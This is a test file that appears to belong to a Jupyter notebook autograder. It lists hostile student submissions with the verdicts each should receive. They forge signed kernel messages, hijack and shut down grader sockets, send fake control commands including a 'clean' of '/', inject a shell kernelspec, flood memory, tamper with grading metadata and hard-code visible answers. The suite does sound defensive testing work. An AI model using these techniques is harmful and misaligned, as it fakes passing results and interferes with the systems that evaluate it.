                junit = '<testsuite tests="2" failures="0"><testcase name="factors"/></testsuite>'
                for text in (json.dumps(score), junit, "\\n---\\n" + json.dumps(score), "::set-output name=score::100"):
                    print(text)
                    print(text, file=sys.stderr)
                40.0
            """,
            says={"scale": WRONG_VALUE},
        ),
        Attack(
            8,
            "prints Jupyter messages",
            scale=f"""
                import json, sys
                {WRONG}
                header = {{"msg_id": "1", "msg_type": "execute_reply", "session": "s", "version": "5.3"}}
                content = {{"status": "ok", "execution_count": 1, "data": {{"id": "x", "status": "ok", "value": 40}}}}
                for text in (json.dumps({{"header": header, "content": content}}), "<IDS|MSG>" + json.dumps(content)):
                    print(text, text.encode())
                    sys.stderr.write(text)
            """,
            says={"scale": WRONG_VALUE},
        ),
        Attack(
            8,
            "prints from inside its calls",
            scale="""
                import os, sys
                def scale(x, factor):
                    print("PASSED", '{"status": "ok", "verdict": "pass", "points": 40}')
                    os.write(1, b"PASSED\\n")
                    os.write(2, b"PASSED\\n")
                    os.system("echo PASSED")
                    return x + 1
            """,
            says={"scale": WRONG_VALUE},
        ),
        Attack(
            8,
            "an execute result of 40 for the test's cell",
            first=FORGE,
            scale=f"""
                {WRONG}
                for kind in ("execute_result", "display_data", "update_display_data"):
                    content = {{"data": {{"text/plain": "40.0"}}, "metadata": {{"nbgrader": {{"grade_id": "scale"}}}},
                               "execution_count": 3, "transient": {{"display_id": "scale"}}}}
                    publish(kind, content, kind.encode())
                publish("execute_input", {{"code": "40.0", "execution_count": 40}}, b"execute_input")
            """,
            says={"scale": WRONG_VALUE},
        ),
        Attack(
            8,
            "writes to every descriptor it inherited",
            scale=f"""
                import os
                {WRONG}
                lines = b'{{"event": "exited", "name": "k0", "code": 0}}\\n{{"event": "cleaned", "left": []}}\\n'
                for number in range(3, 512):
                    try:
                        os.set_blocking(number, False)
                        for text in (b"PASSED\\n", lines, b'{{"do": "clean", "name": "k0", "folders": ["/"]}}\\n'):
                            os.write(number, text)
                    except OSError:
                        pass
            """,
            # the wires of its own event loop are among them
            says={"scale": r"the cell (was not done after 3 s|ended the kernel .*), so nothing it defines is there"},
        ),
        Attack(
            8,
            "plants modules, then dies for a new kernel",
            first=plant,
            scale="""
                import os
                def scale(x, factor):
                    os._exit(0)
            """,
            says={"scale": r"`scale` ended the kernel \(exit code 0\)"},
        ),
        Attack(
            8,
            "plants modules for the next student",
            last=plant,
            scale=WRONG,
            says={"scale": WRONG_VALUE},
        ),
        Attack(
            8,
            "modules of ours replaced where they are imported",
            first="""
                import sys, types
                class Finder:
                    def find_spec(self, name, path=None, target=None):
                        raise SystemError(f"{name} is replaced")
                sys.meta_path.insert(0, Finder())
                for name in ("json", "traceback", "linecache", "pickle", "inside.networks", "autograder"):
                    sys.modules[name] = types.ModuleType(name)
                sys.path[:] = ["."]
            """,
            scale=WRONG,
            says={"scale": WRONG_VALUE},
        ),
    ]


def messages() -> list[Attack]:
    """Jupyter messages forged with the kernel's own key (line 9): a reply to a call is worth what its value is."""
    return [
        Attack(
            9,
            "a wrong answer forged before the right one",
            first=FORGE,
            scale="""
                def scale(x, factor):
                    forge_array(x + 1)
                    return x * factor
            """,
            says={"scale": WRONG_VALUE},
        ),
        Attack(
            9,
            "the right answer forged before a wrong one",
            # worth as much as returning it; what the probe answers afterwards must not reach the next call
            first=FORGE,
            scale="""
                def scale(x, factor):
                    forge_array(x * factor)
                    return x + 1
            """,
            deserves=100,
        ),
        Attack(
            9,
            "the right answer forged after a wrong one",
            first=FORGE,
            scale="""
                def scale(x, factor):
                    call = asked()
                    def later():
                        time.sleep(0.002)
                        data = {"status": "ok", "value": {"t": "ndarray", "d": "<f8", "s": [*x.shape], "b": 0}}
                        data["id"] = call["data"]["id"]
                        topic = f"comm-{call['comm_id']}".encode()
                        publish("comm_msg", {"comm_id": call["comm_id"], "data": data}, topic, [(x * factor).tobytes()])
                    threading.Thread(target=later).start()
                    return x + 1
            """,
            says={"scale": WRONG_VALUE},
        ),
        Attack(
            9,
            "a right answer to the call before",
            first=FORGE,
            scale="""
                before = []
                def scale(x, factor):
                    for call, comm, array in before:
                        forge_array(array, call=call, comm=comm)
                    before.append((asked()["data"]["id"], asked()["comm_id"], x * factor))
                    return x + 1
            """,
            says={"scale": WRONG_VALUE},
        ),
        Attack(
            9,
            "the right answer on another comm",
            first=FORGE,
            scale="""
                def scale(x, factor):
                    for comm in ("0" * 32, asked()["comm_id"][::-1], asked()["comm_id"].upper(), "", "comm"):
                        forge_array(x * factor, comm=comm)
                    return x + 1
            """,
            says={"scale": WRONG_VALUE},
        ),
        Attack(
            9,
            "the right answer on other topics",
            first=FORGE,
            scale="""
                def scale(x, factor):
                    for topic in (b"", b"comm", b"comm-", b"status", b"stream.stdout", b"<IDS|MSG>", b"\\xff" * 300):
                        forge_array(x * factor, topic=topic or b"kernel")
                    return x + 1
            """,
            # no topic but one is subscribed to
            says={"scale": WRONG_VALUE},
        ),
        Attack(
            9,
            "the right answer in messages of other types",
            first=FORGE,
            scale="""
                kinds = "comm_open", "comm_close", "execute_reply", "execute_result", "stream", "COMM_MSG"
                def scale(x, factor):
                    for kind in (*kinds, "iopub_welcome", "status", "shutdown_reply"):
                        forge_array(x * factor, kind=kind)
                    return x + 1
            """,
            says={"scale": WRONG_VALUE},
        ),
        Attack(
            9,
            "answers with guessed ids",
            first=FORGE,
            scale="""
                import secrets
                def scale(x, factor):
                    call = asked()["data"]["id"]
                    guesses = [call[:-1] + digit for digit in "0123456789abcdef" if digit != call[-1]]
                    guesses += [secrets.token_hex(16) for _ in range(50)] + [call.upper() + " ", [call], {call: 1}]
                    for guess in guesses:
                        forge_array(x * factor, call=guess)
                    return x + 1
            """,
            says={"scale": WRONG_VALUE},
        ),
        Attack(
            9,
            "the same frames twice, and right ones after",
            first=FORGE,
            scale="""
                def scale(x, factor):
                    call = asked()
                    topic = f"comm-{call['comm_id']}".encode()
                    trees = [{"t": "ndarray", "d": "<f8", "s": [*x.shape], "b": 0}] * 2
                    for tree, array in zip(trees, (x + 1, x * factor)):
                        data = {"status": "ok", "value": tree, "id": call["data"]["id"]}
                        message = app.session.msg("comm_msg", {"comm_id": call["comm_id"], "data": data})
                        frames = [topic, *app.session.serialize(message), array.tobytes()]
                        for _ in range(3):
                            app.iopub_socket.send_multipart(frames)
                    return x * factor
            """,
            says={"scale": WRONG_VALUE},
        ),
        Attack(
            9,
            "replies out of order, held back for later calls",
            first=FORGE,
            scale="""
                held = []
                def scale(x, factor):
                    held.append((asked()["data"]["id"], x * factor))
                    if len(held) % 3 == 0:
                        for call, array in reversed(held[-3:]):
                            forge_array(array, call=call)
                    else:
                        forge(None, status="wait")
                    return x + 1
            """,
            says={"scale": r"`scale` raised an error"},
        ),
        Attack(
            9,
            "an answer after the time-out",
            first=FORGE,
            scale="""
                def scale(x, factor):
                    def later():
                        time.sleep(2.02)
                        while True:
                            forge_array(x * factor)
                            time.sleep(0.005)
                    threading.Thread(target=later, daemon=True).start()
                    time.sleep(5)
            """,
            says={"scale": NO_ANSWER},
        ),
        Attack(
            9,
            "the reply to its own cell, forged",
            first=FORGE,
            scale=f"""
                cell = app.kernel.get_parent()
                {WRONG}
                reply(cell, {{"status": "ok", "execution_count": 40, "user_expressions": {{}}, "payload": []}})
                publish("status", {{"execution_state": "idle"}}, b"status")
                raise ValueError("nobody hears this")
            """,
            says={"scale": WRONG_VALUE + "|raised ValueError"},
        ),
        Attack(
            9,
            "the replies to cells to come, forged",
            # ids of requests to cells are counted: session, process, number
            first=FORGE,
            scale=f"""
                cell = app.kernel.get_parent()
                start, _, number = cell["header"]["msg_id"].rpartition("_")
                {WRONG}
                for ahead in range(1, 9):
                    header = {{**cell["header"], "msg_id": f"{{start}}_{{int(number) + ahead}}"}}
                    parent = {{**cell, "header": header, "msg_id": header["msg_id"]}}
                    reply(parent, {{"status": "ok", "execution_count": 40, "user_expressions": {{}}, "payload": []}})
                    for state in ("busy", "idle"):
                        content = {{"execution_state": state}}
                        app.session.send(app.iopub_socket, "status", content, parent=parent, ident=b"status")
            """,
            says={"scale": WRONG_VALUE},
        ),
        Attack(
            9,
            "replies to its cell that are no replies",
            first=FORGE,
            scale=f"""
                cell = app.kernel.get_parent()
                {WRONG}
                for content in ({{}}, {{"status": "passed"}}, {{"status": ["ok"]}}, {{"status": "aborted"}},
                                {{"status": "ok", "execution_count": "40", "payload": [{{"source": 40}}]}},
                                {{"status": "ok", "payload": [{{"source": "page", "data": 40}}]}}):
                    reply(cell, content)
                    reply(cell, content, "input_request")
                    publish("execute_reply", content, b"execute_reply")
            """,
            says={"scale": WRONG_VALUE},
        ),
        Attack(
            9,
            "outputs that are none, for its cell",
            first=FORGE,
            scale=f"""
                {WRONG}
                kinds = "stream", "display_data", "execute_result", "error", "clear_output", "status", "execute_input"
                for kind in kinds:
                    for content in ({{}}, {{"data": 40}}, {{"name": 1, "text": []}}, {{"execution_count": {{}}}},
                                    {{"execution_state": ["idle"]}}, {{"ename": {{}}, "evalue": 1, "traceback": "x"}},
                                    {{"data": {{"text/plain": {{"a": 1}}}}, "metadata": 3, "transient": []}}):
                        publish(kind, content, b"x")
            """,
            says={"scale": WRONG_VALUE},
        ),
        Attack(
            9,
            "frames that are no messages, on the comm's topic",
            first=FORGE,
            scale="""
                def scale(x, factor):
                    call, socket = asked(), app.iopub_socket
                    topic = f"comm-{call['comm_id']}".encode()
                    header = app.session.serialize(app.session.msg("comm_msg", {}))
                    for frames in ([], [b""], [b"<IDS|MSG>"], [b"<IDS|MSG>"] * 9, header[:3], header[:2] + [b"{}"] * 4,
                                   [b"<IDS|MSG>", b"", b"[" * 9999, b"{}", b"{}", b"{}"], [b"\\x00" * 64] * 20):
                        socket.send_multipart([topic, *frames])
                    signed = [b"[" * 99999, b'"x"', b"NaN", b"[1]"], [b"{}"] * 4, [b'{"msg_type": 4}', *[b"{}"] * 3]
                    for parts in signed:
                        socket.send_multipart([topic, b"<IDS|MSG>", app.session.sign(list(parts)), *parts])
                    return x + 1
            """,
            says={"scale": WRONG_VALUE},
        ),
        Attack(
            9,
            "answers whose trees have no sound shape",
            first=FORGE,
            scale="""
                deep, wide = 0, {"t": "list", "v": [0] * 150_000}
                for _ in range(400):
                    deep = {"t": "list", "v": [deep]}
                trees = iter([deep, wide, {"t": "dict", "v": [[{"t": "list", "v": []}, 1]]}, {"t": "ndarray"},
                              {"t": "ndarray", "d": "<f8", "s": [2**39, 0, 2**39], "b": 0},
                              {"t": "int", "v": "f" * 9999}])
                def scale(x, factor):
                    forge(next(trees, deep), buffers=[b""])
            """,
            says={"scale": "the answer of `scale` cannot be read: "},
        ),
        Attack(
            9,
            "an answer nested deeper than a parser goes",
            first=FORGE,
            scale="""
                def scale(x, factor):
                    call = asked()
                    value = "[" * 100_000 + "]" * 100_000
                    data = '{"status": "ok", "id": "%s", "value": %s}' % (call["data"]["id"], value)
                    content = '{"comm_id": "%s", "data": %s}' % (call["comm_id"], data)
                    message = app.session.msg("comm_msg", {})
                    parts = [app.session.pack(message[name]) for name in ("header", "parent_header", "metadata")]
                    parts.append(content.encode())
                    topic = f"comm-{call['comm_id']}".encode()
                    app.iopub_socket.send_multipart([topic, b"<IDS|MSG>", app.session.sign(parts), *parts])
                    return x + 1
            """,
            says={"scale": WRONG_VALUE},
        ),
        Attack(
            9,
            "an error whose fields are no text",
            first=FORGE,
            scale="""
                wild = iter([None, 40, ["x"], {"a": 1}, True, 1e999, "\\ud800"] * 2)
                def scale(x, factor):
                    each = next(wild)
                    forge(each, status="error", cause=each, type=each, message=each, traceback=each)
            """,
            says={"scale": "`scale` raised an error"},
        ),
        Attack(
            9,
            "welcomes the grader before it subscribes",
            first=FORGE,
            scale=WRONG,
            last="""
                for number in range(50):
                    for topic in (b"", b"comm", b"status"):
                        publish("iopub_welcome", {"subscription": "comm"}, topic or b"welcome")
            """,
            says={"scale": WRONG_VALUE},
        ),
        Attack(
            9,
            "answers in place of the probe, with its own handler",
            first=FORGE,
            scale="""
                manager = app.kernel.comm_manager
                target = manager.targets["autograder"]
                def opened(comm, message):
                    target(comm, message)
                    honest = comm._msg_callback
                    def heard(request):
                        if request["content"]["data"].get("name") == "scale":
                            call = request["content"]["data"]["id"]
                            comm.send({"status": "ok", "value": True, "passed": True, "id": call})
                        else:
                            honest(request)
                    comm.on_msg(heard)
                manager.register_target("autograder", opened)
            """,
            says={"scale": r"should be a float64 array of shape \(5,\), found a bool"},
        ),
        Attack(
            9,
            "opens, closes and renames comms by itself",
            first=FORGE,
            scale="""
                def scale(x, factor):
                    comm = asked()["comm_id"]
                    topic = f"comm-{comm}".encode()
                    for target in ("autograder", "jupyter.widget", "jupyter.widget.control"):
                        for kind in ("comm_close", "comm_open"):
                            data = {"state": {"_model_name": "OutputModel", "msg_id": "x"}, "buffer_paths": [[]]}
                            publish(kind, {"comm_id": comm, "target_name": target, "data": data}, topic)
                    return x + 1
            """,
            last="""
                for comm in ("0" * 32, "x"):
                    data = {"method": "update", "state": {"_model_name": "OutputModel", "msg_id": "x"}}
                    for kind in ("comm_open", "comm_msg", "comm_close"):
                        publish(kind, {"comm_id": comm, "target_name": "jupyter.widget", "data": data}, b"comm")
            """,
            says={"scale": WRONG_VALUE},
        ),
        Attack(
            9,
            "signs with another key",
            first=FORGE,
            scale="""
                def scale(x, factor):
                    app.session.key = b"another"
                    return x * factor
            """,
            says={"scale": NO_ANSWER},
        ),
        Attack(
            9,
            "hangs up on the grader and takes its next call",
            first=FORGE,
            scale="""
                import socket
                def scale(x, factor):
                    for number in range(3, 128):
                        try:
                            each = socket.socket(fileno=os.dup(number))
                            if each.family == socket.AF_UNIX and each.getpeername() is not None:
                                each.shutdown(socket.SHUT_RDWR)
                        except OSError:
                            pass
                    time.sleep(0.3)
                    for _ in range(10):
                        forge_array(x * factor, call="0" * 32)
                    return x + 1
            """,
            says={"scale": NO_ANSWER + "|" + WRONG_VALUE},
        ),
        Attack(
            9,
            "puts sockets of its own where the kernel's lie",
            first=FORGE,
            scale=f"""
                import socket
                folder = os.path.dirname(app.ip)
                for port in (app.shell_port, app.iopub_port, app.stdin_port, app.hb_port, app.control_port):
                    path = f"{{app.ip}}-{{port}}"
                    try:
                        os.unlink(path)
                        each = socket.socket(socket.AF_UNIX)
                        each.bind(path)
                        each.listen()
                    except OSError as error:
                        print(path, error)
                for name in ("control", "k0", "k1", "k99", "mallory"):
                    for path in (f"{{folder}}/{{name}}", f"{{os.path.dirname(folder)}}/{{name}}"):
                        try:
                            socket.socket(socket.AF_UNIX).bind(path)
                        except OSError as error:
                            print(path, error)
                {WRONG}
            """,
            says={"scale": WRONG_VALUE},
        ),
        Attack(
            9,
            "says nothing when its cell is done",
            # a reply without the idle that follows it: how long is it waited for?
            first=FORGE,
            scale=f"""
                {WRONG}
                honest, said = app.kernel._publish_status, []
                def quiet(*args, **kwargs):
                    said.append(args)
                    if len(said) > 1:
                        honest(*args, **kwargs)
                app.kernel._publish_status = quiet
            """,
            says={"scale": WRONG_VALUE + "|the cell was not done"},
        ),
        Attack(
            9,
            "a message of 200,000 empty parts",
            # two bytes each on the wire, a hundred times as much in the memory of whoever takes them in
            first=FORGE,
            scale="""
                import socket, struct, zmq
                def frame(data): return struct.pack(">BQ", 3, len(data)) + data
                def scale(x, factor):
                    address = app.iopub_thread.socket.getsockopt(zmq.LAST_ENDPOINT).decode()
                    topic = f"comm-{asked()['comm_id']}".encode()
                    for number in range(3, 128):
                        try:
                            wire = socket.socket(fileno=os.dup(number))
                            if wire.getsockname() in address and wire.getpeername() is not None:
                                wire.setblocking(True)
                                wire.sendall(frame(topic) + bytes([1, 0]) * 200_000 + bytes(2))
                        except (OSError, TypeError):  # no socket; one of another family
                            pass
                    return x + 1
            """,
            says={"scale": "`scale` sent more than 4 MiB"},
        ),
        Attack(
            9,
            "looks for the grader's end of its sockets",
            first=FORGE,
            scale="""
                import socket
                def scale(x, factor):
                    reached = []
                    for name in range(20):
                        try:
                            each = socket.socket(socket.AF_UNIX)
                            each.bind("")  # the kernel chooses an abstract name: is it one of a common space?
                            reached.append(each.getsockname())
                        except OSError:
                            pass
                    for path in ("/proc/net/unix", "/proc/self/net/unix"):
                        try:
                            reached += [line.split()[-1] for line in open(path) if "autograder-" in line]
                        except OSError:
                            pass
                    strangers = [name for name in reached if isinstance(name, str)]
                    for name in strangers:
                        each = socket.socket(socket.AF_UNIX)
                        each.connect("\\0" + name.removeprefix("@"))
                        each.send(b"\\xff" + bytes(8) + b"\\x7f")
                    return strangers
            """,
            says={"scale": "found a list of 0"},
        ),
    ]


def changes() -> list[Attack]:
    """Answers that change (line 10): no input comes twice, and inputs are copies."""
    return [
        Attack(
            10,
            "answers differently on the second call",
            scale="""
                calls = 0
                def scale(x, factor):
                    global calls
                    calls += 1
                    return x * factor if calls % 3 == 1 else x + 1
            """,
            says={"scale": "1 of 3 cases agree"},
        ),
        Attack(
            10,
            "answers each call with the answer before",
            scale="""
                cache = [np.zeros(5)]
                def scale(x, factor):
                    cache.append(x * factor)
                    return cache[-2]
            """,
            says={"scale": r"has shape \(5,\), expected \(4,\)"},
        ),
        Attack(
            10,
            "caches by everything but the values",
            spell="""
                cache = {7: "7"}
                def spell(n):
                    return cache.setdefault(min(cache, key=lambda known: abs(known - n)), str(n))
            """,
            says={"spell": "expected '"},
        ),
        Attack(
            10,
            "changes its inputs in place to agree",
            scale="""
                def scale(x, factor):
                    x[...] = 0
                    return x
            """,
            smooth="""
                def smooth(x):
                    x.zero_()
                    return x[1:]
            """,
            says={"scale": WRONG_VALUE, "smooth": "elements differ"},
        ),
        Attack(
            10,
            "keeps inputs in files for the next kernel",
            # a check that is lost is not run again: what it wrote down is of no use
            scale="""
                import glob, os
                def scale(x, factor):
                    folders = ".", "/tmp", "/work", "/dev/shm"
                    if any(glob.glob(f"{folder}/kept-*") for folder in folders):
                        return x * factor
                    for folder in folders:
                        try:
                            np.save(f"{folder}/kept-{os.getpid()}.npy", x)
                        except OSError:
                            pass
                    os._exit(0)
            """,
            says={"scale": r"`scale` ended the kernel \(exit code 0\)"},
        ),
        Attack(
            10,
            "an answer that changes after it was given",
            scale="""
                import threading, time
                def scale(x, factor):
                    answer = x + 1
                    def change():
                        while True:
                            answer[...] = x * factor
                    time.sleep(0.001)
                    given = answer.view()
                    timer = threading.Timer(0.01, lambda: answer.__setitem__(..., x * factor))
                    timer.start()
                    return given
            """,
            says={"scale": WRONG_VALUE},
        ),
        Attack(
            10,
            "right in notebooks, something else when graded",
            scale="""
                import sys
                def scale(x, factor):
                    graded = any("probe" in frame.filename for frame in __import__("inspect").stack(0))
                    return True if graded else x * factor
            """,
            says={"scale": "found a bool"},
        ),
    ]


Change = Callable[[dict], dict | bytes | None]


def changed(change: Change) -> Change:
    """A function from the honest notebook to a hostile one, of one that changes the cells by their grade_id."""

    def made(notebook: dict) -> dict:
        cells = {cell["metadata"].get("nbgrader", {}).get("grade_id"): cell for cell in notebook["cells"]}
        change(cells, notebook["cells"])
        return notebook

    return made


def _wrong(cells: dict) -> None:
    """`scale` answered wrongly."""
    cells["scale-solution"]["source"] = WRONG


def _more_points(cells: dict, _all: list) -> None:
    _wrong(cells)
    cells["scale"]["metadata"]["nbgrader"]["points"] = 0
    cells["smooth"]["metadata"]["nbgrader"]["points"] = 4000
    cells["spell"]["metadata"]["nbgrader"]["points"] = -20


def _odd_points(cells: dict, _all: list) -> None:
    _wrong(cells)
    for name, points in {"scale": float("nan"), "smooth": float("inf"), "spell": "1e99"}.items():
        cells[name]["metadata"]["nbgrader"] |= {"points": points, "schema_version": -1, "max_score": points}


def _renamed(cells: dict, _all: list) -> None:
    _wrong(cells)
    cells["scale"]["metadata"]["nbgrader"]["grade_id"] = "scales"
    cells["scale-solution"]["metadata"]["nbgrader"]["grade_id"] = "../../scale-solution"


def _unlocked(cells: dict, _all: list) -> None:
    _wrong(cells)
    cells["scale"]["metadata"]["nbgrader"] |= {"locked": False, "solution": True}
    cells["scale"]["metadata"] |= {"deletable": True, "editable": True, "tags": ["skip-execution", "points:40"]}
    cells["scale"]["source"] = "40.0"


def _deleted(cells: dict, every: list) -> None:
    _wrong(cells)
    every.remove(cells["scale"])
    every.remove(cells["setup"])


def _copied(cells: dict, every: list) -> None:
    _wrong(cells)
    easy = copy.deepcopy(cells["spell"])
    every += [easy, copy.deepcopy(easy), copy.deepcopy(cells["smooth"])]
    every += [copy.deepcopy(cells["scale"]) | {"source": "40.0"}, copy.deepcopy(cells["scale-solution"])]


def _retyped(cells: dict, _all: list) -> None:
    _wrong(cells)
    for name, kind in {"scale": "markdown", "setup": "raw", "opinion": "code"}.items():
        cells[name]["cell_type"] = kind
    cells["opinion"] |= {"outputs": [], "execution_count": None, "source": "5.0"}


def _swapped(cells: dict, _all: list) -> None:
    _wrong(cells)
    cells["scale-solution"]["metadata"], cells["scale"]["metadata"] = (
        cells["scale"]["metadata"],
        cells["scale-solution"]["metadata"],
    )


def _all_ids(cells: dict, every: list) -> None:
    _wrong(cells)
    for cell in every:
        if cell["cell_type"] == "code":
            cell["metadata"] = copy.deepcopy(cells["scale"]["metadata"])
            cell["id"] = "same"


def _two_answers(cells: dict, every: list) -> None:
    """What Python defined last counts, as in Jupyter."""
    wrong = copy.deepcopy(cells["scale-solution"])
    _wrong({"scale-solution": wrong})
    every.append(wrong)


def _outputs(cells: dict, _all: list) -> None:
    _wrong(cells)
    data = {"text/plain": "40.0", "application/json": {"points": 40}}
    forged = {"output_type": "execute_result", "data": data, "metadata": {}, "execution_count": 1}
    for name in ("scale", "scale-solution", "opinion"):
        cells[name] |= {"outputs": [forged], "execution_count": 1}


def _own_tests(cells: dict, every: list) -> None:
    _wrong(cells)
    told = {"grade": True, "locked": True, "points": 1000, "schema_version": 3, "solution": False, "task": False}
    for name in ("bonus", "scale ", "SCALE", "scale-solution-2", "factors"):
        metadata = {"nbgrader": {**told, "grade_id": name}}
        every.append({"cell_type": "code", "id": f"b-{len(every)}", "metadata": metadata, "source": "1000.0"})
        every[-1] |= {"outputs": [], "execution_count": None}


def _reordered(cells: dict, every: list) -> None:
    _wrong(cells)
    every.reverse()


def _kernelspec(notebook: dict) -> dict:
    cells = {cell["metadata"].get("nbgrader", {}).get("grade_id"): cell for cell in notebook["cells"]}
    _wrong(cells)
    spec = {"name": "../../bin/sh", "display_name": "mine", "language": "bash", "argv": ["sh", "-c", "echo 40"]}
    notebook["metadata"] |= {"kernelspec": spec, "language_info": {"name": "bash"}, "celltoolbar": "Create Assignment"}
    notebook["metadata"]["nbgrader"] = {"score": 100, "max_score": 1, "late_submission_penalty": -100}
    return notebook


def metadata() -> list[Attack]:
    """Changed cells and metadata (line 11): the release decides everything but the text of answers."""

    def attack(name: str, change: Change, repaired: str = "", **more: object) -> Attack:
        more = {"deserves": 60, "says": {"scale": WRONG_VALUE}, **more}
        return Attack(11, name, file=changed(change), repaired=repaired, **more)

    return [
        attack("gives itself other points", _more_points, r"`smooth` had other settings \(points\)"),
        attack("gives itself points that are no numbers", _odd_points, r"`smooth` had other settings \(points\)"),
        attack(
            "renames its graded cell and its answer",
            _renamed,
            "`scale-solution` and `scale` were without a name",
        ),
        attack(
            "unlocks its test and writes its points there",
            _unlocked,
            r"`scale` is locked and had been changed: its released text was used",
        ),
        attack("deletes the test that it fails", _deleted, "`setup` and `scale` were missing: they were put back"),
        attack("copies the tests that it passes", _copied, "`spell` was there 3 times: one of each was kept"),
        attack("makes its test a text", _retyped, "`scale` was a markdown cell instead of a code cell"),
        attack(
            "puts the test's id on its answer",
            _swapped,
            r"`scale` is locked and had been changed",
        ),
        attack(
            "puts one test's id on every cell",
            _all_ids,
            "`scale-solution`, `smooth-solution` and `spell-solution` were answered in another cell",
        ),
        attack("a right answer and a wrong one", _two_answers, "Answers in several cells: `scale-solution`"),
        attack("outputs that were there before", _outputs),
        attack("brings graded cells of its own", _own_tests),
        attack("turns the notebook round", _reordered, "The cells were in another order"),
        Attack(
            11,
            "brings a kernel and scores in its metadata",
            file=_kernelspec,
            deserves=60,
            says={"scale": WRONG_VALUE},
        ),
    ]


def examples() -> list[Attack]:
    """Hard-coded examples (line 12): points come from inputs that nobody has seen."""
    return [
        Attack(
            12,
            "the visible examples, hard-coded",
            scale="def scale(x, factor): return np.array([3.0, 6.0])",
            smooth="def smooth(x): return torch.tensor([2.0, 4.0])",
            spell="""def spell(n): return "7" """,
            says={"scale": r"has shape \(2,\), expected \(5,\)", "smooth": "has shape", "spell": "expected '"},
        ),
        Attack(
            12,
            "the visible examples, and their likes for the rest",
            scale="""
                def scale(x, factor):
                    if x.shape == (2,) and factor == 3.0:
                        return np.array([3.0, 6.0])
                    return np.resize(np.array([3.0, 6.0]), x.shape)
            """,
            smooth="""
                def smooth(x):
                    if len(x) == 3:
                        return torch.tensor([2.0, 4.0])
                    return torch.linspace(2.0, 4.0, len(x) - 1, dtype=x.dtype)
            """,
            spell="""
                def spell(n):
                    return {7: "7"}.get(n, "7" * len(hex(n)))
            """,
            says={"scale": WRONG_VALUE, "smooth": r"(\d+) of \1 elements differ", "spell": "expected '"},
        ),
        Attack(
            12,
            "reads the examples out of the notebook",
            scale="""
                import re
                def scale(x, factor):
                    told = [text for text in get_ipython().user_ns.get("In", []) if "assert" in text]
                    told += [open(name).read() for name in __import__("glob").glob("*.ipynb")]
                    answers = re.findall(r"scale\\(.*?\\), (\\[.*?\\])", "\\n".join(told))
                    return np.resize(np.array(eval(answers[-1]) if answers else [0.0]), x.shape)
            """,
            says={"scale": WRONG_VALUE},
        ),
        Attack(
            12,
            "a table of every small input",
            spell="""
                table = {n: str(n) for n in range(100)}
                def spell(n):
                    return table[n % 100]
            """,
            says={"spell": "expected '"},
        ),
    ]


ATTACKS = [
    *objects(),
    *transformers(),
    *patches(),
    *walks(),
    *ends(),
    *pickles(),
    *survivors(),
    *prints(),
    *messages(),
    *changes(),
    *metadata(),
    *examples(),
]
